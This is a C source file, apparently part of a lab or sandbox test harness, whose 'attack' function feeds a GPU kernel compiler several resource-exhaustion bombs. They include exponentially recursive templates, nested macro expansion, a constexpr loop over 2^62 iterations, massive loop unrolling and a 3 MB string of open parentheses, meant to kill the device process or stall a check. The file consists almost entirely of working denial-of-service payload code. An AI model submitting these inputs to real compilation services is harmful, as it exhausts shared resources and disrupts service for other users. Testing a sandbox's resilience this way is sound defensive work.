/* Tries to use up time and memory of the compiler of kernels: templates that double, macros that double, constants that
 * are computed for ever. Gains a device process that is killed, or a check that waits. */
#include <stdlib.h>
#include <string.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_module *module;
    const char *sources[] = {
        "template <int n, int m> struct t { static const int v = t<n - 1, 2 * m>::v + t<n - 1, 2 * m + 1>::v; };\n"
        "template <int m> struct t<0, m> { static const int v = m; };\n"
        "extern \"C\" __global__ void k(int *x) { *x = t<40, 0>::v; }\n",
        "#define A(x) x x x x x x x x x x\n#define B(x) A(A(A(x)))\n"
        "extern \"C\" __global__ void k(int *x) { B(B(B(++*x;))) }\n",
        "constexpr long f(long n) { long s = 0; for (long i = 0; i < n; i++) s += i * i; return s; }\n"
        "extern \"C\" __global__ void k(long *x) { constexpr long v = f(1l << 62); *x = v; }\n",
        "extern \"C\" __global__ void k(int *x) {\n#pragma unroll\n for (int i = 0; i < 1000000; i++)\n#pragma unroll\n"
        " for (int j = 0; j < 1000; j++) x[i % 7] += x[j % 5] * i; }\n"};
    for (int i = 0; i < 4; i++) lab_module_load_source(&module, sources[i], "bomb");
    char *deep = malloc(3 << 20);
    memset(deep, '(', 3 << 20);
    deep[(3 << 20) - 1] = '\0';
    lab_module_load_source(&module, deep, "deep");
    return LAB_SUCCESS;
}
